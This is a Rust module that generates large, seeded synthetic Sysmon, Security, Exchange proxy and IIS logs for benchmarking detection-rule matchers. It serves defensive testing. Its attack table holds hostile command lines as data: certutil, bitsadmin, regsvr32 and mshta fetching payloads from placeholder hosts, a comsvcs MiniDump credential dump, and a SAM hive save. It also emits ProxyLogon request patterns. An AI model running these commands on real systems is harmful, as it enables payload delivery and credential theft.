//! Logs of any size, for measurements of speed and memory.
//!
//! How dense they are with what rules look for is asked for: recordings of
//! attacks are very, a server's own log hardly. Command lines, file names and
//! GUIDs never repeat: a matcher that is fast here is not fast because it skips.
//!
//! # Not here
//! A story, and its truth: these logs answer no question.

use crate::dice::Dice;
use crate::evtx::{Event, EvtxFile};
use crate::exchange::{ProxyRow, proxy_columns, proxy_header, proxy_line};
use crate::host::{Build, HEALTH_MAILBOXES, Host, PEOPLE, later, march};
use crate::iis::{Site, WebRow, web_header};
use crate::windows::{self, Process, ProcessAudit};
use model::Timestamp;
use std::io::{self, BufWriter, Seek, SeekFrom, Write};

const HOST: Host =
    Host { name: "MXS01", address: "10.20.0.11", build: Build::E2016_CU18, in_own_folder: false };

/// Share of processes, files, keys and logons, in percent, that rules are
/// written for; unless told otherwise.
pub const ATTACK_PERCENT: u64 = 9;

/// Writes an event log of at least `bytes` bytes, in whole chunks: Sysmon and
/// Security records in turn, as a forwarded log holds them, 60 to 120 in a
/// chunk. `attack` percent of the processes, files, keys and logons are of the
/// kind that rules are written for. The same arguments give the same bytes.
///
/// # Errors
/// When `out` cannot be written to.
pub fn write_evtx<W: Write + Seek>(out: W, bytes: u64, attack: u64, seed: u64) -> io::Result<()> {
    let mut dice = Dice::new(seed, "bulk-evtx");
    let mut out = BufWriter::with_capacity(1 << 20, out);
    // The header counts the chunks, so it comes last; its room comes first.
    out.write_all(&[0; 4_096])?;
    let mut file = EvtxFile::new(out, &HOST.full_name(), 1);
    let mut time = march(1, 0, 0, 0);
    let mut parent = some_process(attack, &mut dice);
    while file.size_bytes() < bytes {
        time = later(time, dice.between(1, 400) as i64);
        let process = some_process(attack, &mut dice);
        file.push(&some_event(time, (&process, &parent), attack, &mut dice))?;
        if dice.chance(30) {
            parent = process;
        }
    }
    let (header, mut out) = file.finish()?;
    out.seek(SeekFrom::Start(0))?;
    out.write_all(&header)?;
    out.flush()
}

/// Kinds in the shares of a busy Sysmon configuration beside process audit.
fn some_event(
    time: Timestamp,
    (process, parent): (&Process, &Process),
    attack: u64,
    dice: &mut Dice,
) -> Event {
    let is_attack = dice.chance(attack);
    match dice.below(20) {
        0..=3 => windows::sysmon_start(time, process, parent),
        4..=8 => {
            let folder = if is_attack { dice.pick(&FOLDERS) } else { dice.pick(&ORDINARY_FOLDERS) };
            let ending = if is_attack { dice.pick(&ENDINGS) } else { dice.pick(&ORDINARY_ENDINGS) };
            let target = format!("{folder}{}.{ending}", dice.letters(9));
            windows::sysmon_file(time, process, &target)
        }
        9 | 10 => {
            let ports: &[u16] =
                if is_attack { &[80, 443, 445, 389, 3_389, 8_080] } else { &[80, 443, 445, 389] };
            let port = ports[dice.below(ports.len() as u64) as usize];
            windows::sysmon_connection(time, process, &HOST, &format!("203.0.113.{}", dice.below(255)), port)
        }
        11..=13 => {
            let key = if is_attack { dice.pick(&REGISTRY_KEYS) } else { dice.pick(&ORDINARY_KEYS) };
            let value = format!("{key}{}", dice.letters(8));
            windows::sysmon_registry(time, process, &value, &process.command)
        }
        14 => windows::sysmon_access(time, process, parent),
        15 | 16 => windows::security_start(time, process, parent, ProcessAudit::Whole),
        17 | 18 => windows::security_logon(
            time,
            dice.pick(&PEOPLE),
            3,
            &format!("10.20.4.{}", dice.below(255)),
            false,
        ),
        _ => windows::security_logon(
            time,
            dice.pick(&PEOPLE),
            10,
            &format!("{}.{}", if is_attack { "198.51.100" } else { "10.20.5" }, dice.below(255)),
            true,
        ),
    }
}

/// A program with its arguments: now and then of the kind that rules are
/// written for.
fn some_process(attack: u64, dice: &mut Dice) -> Process {
    let programs = if dice.chance(attack) { &PROGRAMS[..] } else { &ORDINARY_PROGRAMS[..] };
    let (image, arguments) = programs[dice.below(programs.len() as u64) as usize];
    let (word, number) = (dice.letters(10), dice.between(1, 255));
    let command = format!("{image} {}", arguments.replace("{w}", &word).replace("{n}", &number.to_string()));
    let user = dice.pick(&[
        "NT AUTHORITY\\SYSTEM",
        "EXAMPLE\\a.meyer",
        "EXAMPLE\\svc_backup",
        "IIS APPPOOL\\DefaultAppPool",
    ]);
    let id = 4 * dice.between(100, 15_000) as u32;
    let hashes = format!("MD5={:016X}{:016X}", dice.next(), dice.next());
    Process { id, image: image.into(), command, user, guid: dice.guid(), hashes }
}

/// What a quiet server runs.
const ORDINARY_PROGRAMS: [(&str, &str); 8] = [
    ("C:\\Windows\\System32\\backgroundTaskHost.exe", "-ServerName:{w}.AppX{w}.mca"),
    ("C:\\Windows\\System32\\taskhostw.exe", "-RegisterDevice -ProtectionStateChanged -FreeNetworkOnly {n}"),
    ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "-secured -Embedding {w}{n}"),
    ("C:\\Windows\\System32\\dllhost.exe", "/Processid:{{w}}"),
    (
        "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeHMWorker.exe",
        "-pipe:{n} -stopkey:Global\\ExchangeStopKey-{w}",
    ),
    (
        "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        "-ap \"MSExchangeOWAAppPool\" -v \"v4.0\" -a \\\\.\\pipe\\iisipm{w}",
    ),
    (
        "C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
        "SpyNetServiceDss -RestrictPrivileges -AccessKey {w}-{n}",
    ),
    (
        "C:\\Windows\\System32\\SearchProtocolHost.exe",
        "Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrl{w}",
    ),
];
const ORDINARY_FOLDERS: [&str; 3] = [
    "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\TransportRoles\\data\\Temp\\",
    "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\Diagnostics\\",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\CacheManager\\",
];
const ORDINARY_ENDINGS: [&str; 3] = ["log", "tmp", "etl"];
const ORDINARY_KEYS: [&str; 3] = [
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\",
    "HKLM\\SOFTWARE\\Microsoft\\ExchangeServer\\v15\\ActiveMonitoring\\Subjects\\",
    "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\",
];
const PROGRAMS: [(&str, &str); 16] = [
    ("C:\\Windows\\System32\\cmd.exe", "/c whoami /all & ipconfig /all > C:\\Windows\\Temp\\{w}.txt"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -enc {w}{w}{w}{w}"),
    (
        "C:\\Windows\\System32\\rundll32.exe",
        "C:\\windows\\System32\\comsvcs.dll MiniDump {n} C:\\root\\{w}.dmp full",
    ),
    ("C:\\Windows\\System32\\net.exe", "group \"Domain Admins\" {w} /domain"),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "-urlcache -split -f http://198.51.100.{n}/{w}.txt C:\\ProgramData\\{w}.exe",
    ),
    ("C:\\Windows\\System32\\reg.exe", "save hklm\\sam C:\\Windows\\Temp\\{w}.hiv"),
    ("C:\\Windows\\System32\\wbem\\WMIC.exe", "/node:10.20.0.{n} process call create \"cmd.exe /c {w}\""),
    (
        "C:\\Windows\\System32\\schtasks.exe",
        "/create /tn {w} /tr C:\\Users\\Public\\{w}.exe /sc minute /mo {n}",
    ),
    ("C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s {w}"),
    (
        "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeHMWorker.exe",
        "-pipe:{n} -stopkey:Global\\{w}",
    ),
    (
        "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        "-ap \"MSExchangeOWAAppPool\" -v \"v4.0\" -a \\\\.\\pipe\\{w}",
    ),
    ("C:\\Windows\\System32\\regsvr32.exe", "/s /n /u /i:http://203.0.113.{n}/{w}.sct scrobj.dll"),
    ("C:\\Windows\\System32\\mshta.exe", "http://203.0.113.{n}/{w}.hta"),
    ("C:\\Windows\\System32\\bitsadmin.exe", "/transfer {w} http://198.51.100.{n}/{w} C:\\ProgramData\\{w}"),
    (
        "C:\\ProgramData\\mx\\7z.exe",
        "a -p{w} C:\\inetpub\\wwwroot\\aspnet_client\\{w}.7z C:\\ProgramData\\mx",
    ),
    ("C:\\Windows\\explorer.exe", "/factory,{{w}} -Embedding {n}"),
];
const FOLDERS: [&str; 5] = [
    "C:\\Windows\\Temp\\",
    "C:\\inetpub\\wwwroot\\aspnet_client\\",
    "C:\\Users\\a.meyer\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\",
    "C:\\ProgramData\\",
    "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\Monitoring\\",
];
const ENDINGS: [&str; 7] = ["log", "aspx", "dll", "exe", "ps1", "tmp", "dmp"];
const REGISTRY_KEYS: [&str; 4] = [
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\",
    "HKLM\\System\\CurrentControlSet\\Services\\",
    "HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\SOFTWARE\\Classes\\CLSID\\",
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\",
];

/// Writes one HttpProxy log of `lines` rows: 86 of 100 health probes, the rest
/// people, and in every thousand rows one that tries CVE-2021-26855. The same
/// number and seed give the same bytes.
///
/// # Errors
/// When `out` cannot be written to.
pub fn write_http_proxy<W: Write>(mut out: W, lines: u64, seed: u64) -> io::Result<()> {
    let mut dice = Dice::new(seed, "bulk-httpproxy");
    let columns = proxy_columns(&HOST);
    let mut time = march(1, 0, 0, 0);
    out.write_all(proxy_header(&HOST, time).as_bytes())?;
    for _ in 0..lines {
        time = later(time, dice.between(1, 400) as i64);
        out.write_all(proxy_line(&HOST, &columns, &some_request(time, &mut dice)).as_bytes())?;
    }
    out.flush()
}

fn some_request(time: Timestamp, dice: &mut Dice) -> ProxyRow {
    let of_thousand = dice.below(1_000);
    let is_attempt = of_thousand == 0;
    let is_probe = of_thousand > 140;
    let user = if is_probe { dice.pick(&HEALTH_MAILBOXES) } else { dice.pick(&PEOPLE) };
    let anchor = if is_attempt {
        format!("ServerInfo~{}]@{}:444/autodiscover/autodiscover.xml?#", dice.hex(6), HOST.full_name())
    } else {
        format!("Sid~S-1-5-21-1004336348-1177238915-682003330-{}", dice.between(1_100, 9_000))
    };
    ProxyRow {
        time,
        protocol: "Ecp",
        request_id: dice.guid_text(),
        url_host: if is_probe { "localhost".into() } else { "mail.example.com".into() },
        url_stem: if is_attempt { format!("/ecp/{}.js", dice.hex(4)) } else { "/ecp/".into() },
        url_query: if is_probe { String::new() } else { format!("?ActID={}", dice.guid_text()) },
        method: if is_attempt { "POST" } else { "GET" },
        user: (!is_attempt).then(|| ("Negotiate", format!("EXAMPLE\\{user}"))),
        anchor_mailbox: anchor,
        agent: if is_probe {
            "AMProbe/Local/ClientAccess".into()
        } else {
            format!("Mozilla/5.0 (rv:{}.0)", dice.below(99))
        },
        client: if is_probe { "127.0.0.1".into() } else { format!("192.0.2.{}", dice.below(255)) },
        status: if is_attempt { 400 } else { 200 },
        back_end_status: (!is_attempt).then_some(200),
        error: "",
        millis_taken: dice.between(1, 900) as u32,
    }
}

/// Writes an IIS log of `lines` rows: mail clients and health probes, and in every thousand rows one
/// that asks for a page as web shells lie there. The same number and seed give the same bytes.
///
/// # Errors
/// When `out` cannot be written to.
pub fn write_iis<W: Write>(mut out: W, lines: u64, seed: u64) -> io::Result<()> {
    let mut dice = Dice::new(seed, "bulk-iis");
    let mut time = march(1, 0, 0, 0);
    out.write_all(web_header(time).as_bytes())?;
    for _ in 0..lines {
        time = later(time, dice.between(1, 400) as i64);
        out.write_all(some_web_request(time, &mut dice).line(&HOST).as_bytes())?;
        out.write_all(b"\r\n")?;
    }
    out.flush()
}

fn some_web_request(time: Timestamp, dice: &mut Dice) -> WebRow {
    let of_thousand = dice.below(1_000);
    let (method, stem, query, agent) = match of_thousand {
        0 => (
            "POST",
            format!("/aspnet_client/{}.aspx", dice.letters(8)),
            String::new(),
            "python-requests/2.25.1".into(),
        ),
        1..=400 => ("GET", "/owa/healthcheck.htm".into(), String::new(), "AMProbe/Local/ClientAccess".into()),
        401..=700 => {
            let device = format!(
                "Cmd=Ping&DeviceId={}&DeviceType=iPhone&CorrelationID={}",
                dice.hex(26),
                dice.guid_text()
            );
            (
                "POST",
                "/Microsoft-Server-ActiveSync/default.eas".into(),
                device,
                "Apple-iPhone12C1/1804.17".into(),
            )
        }
        701..=900 => {
            let mailbox =
                format!("MailboxId={}@example.com&CorrelationID={}", dice.guid_text(), dice.guid_text());
            (
                "POST",
                "/mapi/emsmdb/".into(),
                mailbox,
                "Microsoft Office/16.0 (Windows NT 10.0; Outlook 16.0; Pro)".into(),
            )
        }
        _ => {
            let request = format!(
                "action=GetItem&EP=1&ID=-{}&AC=1&CorrelationID={}",
                dice.below(999),
                dice.guid_text()
            );
            (
                "POST",
                "/owa/service.svc".into(),
                request,
                format!("Mozilla/5.0 (Windows NT 10.0; rv:{}.0)", dice.below(99)),
            )
        }
    };
    let is_probe = (1..=400).contains(&of_thousand);
    WebRow {
        time,
        site: Site::Front,
        method,
        stem,
        query,
        user: if is_probe {
            dice.pick(&HEALTH_MAILBOXES).to_owned()
        } else {
            format!("EXAMPLE\\{}", dice.pick(&PEOPLE))
        },
        client: if is_probe { "127.0.0.1".into() } else { format!("192.0.2.{}", dice.below(255)) },
        agent,
        status: if of_thousand == 0 { 404 } else { 200 },
        millis_taken: dice.between(1, 900) as u32,
    }
}
